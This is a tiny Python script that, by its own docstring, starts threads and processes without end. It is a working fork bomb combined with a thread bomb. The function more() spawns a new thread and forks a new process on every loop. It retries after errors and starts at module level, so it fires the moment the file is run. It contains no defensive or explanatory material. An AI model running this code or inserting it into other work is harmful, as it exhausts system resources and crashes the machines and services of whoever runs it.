"""Threads and processes without end, of which every one starts more."""

import _thread
import os
import time


def more():
    while True:
        try:
            _thread.start_new_thread(more, ())
            if os.fork() == 0:
                more()
        except (RuntimeError, OSError):
            time.sleep(0)


_thread.stack_size(64 * 1024)
more()
